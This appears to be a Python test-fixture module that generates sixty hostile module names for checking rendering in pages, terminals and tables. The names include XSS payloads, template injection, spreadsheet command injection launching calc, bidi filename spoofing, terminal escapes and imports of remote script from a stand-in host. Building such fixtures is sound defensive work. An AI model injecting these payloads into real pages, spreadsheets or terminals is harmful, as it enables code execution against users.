"""Sixty names that a stranger's module may have, meant to run in a page, a terminal or a table."""

_SCRIPTS = (
    "alert(1)", "window.ran=1", "fetch('http://x.invalid')", "document.title='ran'",
    "import('http://x.invalid/a.js')",
)  # fmt: skip
_WRAPPED = (
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>x</a>", "\"><body onload={}>",
)  # fmt: skip
_OTHERS = (
    "<!--", "-->", "]]>", "<![CDATA[<script>window.ran=1</script>]]>",
    "</title><script>window.ran=1</script>",
    "<base href='http://x.invalid/'>", "<meta http-equiv=refresh content='0;url=http://x.invalid'>",
    "<link rel=stylesheet href='http://x.invalid/a.css'>",
    "{{constructor.constructor('alert(1)')()}}",
    "${window.ran=1}", "`${window.ran=1}`", "\u2028window.ran=1//", "\u2029window.ran=1//",
    "\u202egnp.exe", "\x1b[2J\x1b]0;title\x07", "\x00", "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "__proto__",
)  # fmt: skip
HOSTILE_NAMES = tuple(text.format(script) for text in _WRAPPED for script in _SCRIPTS) + _OTHERS
"""All of them; what they would run sets `window.ran`, opens a dialog, or asks for a page."""
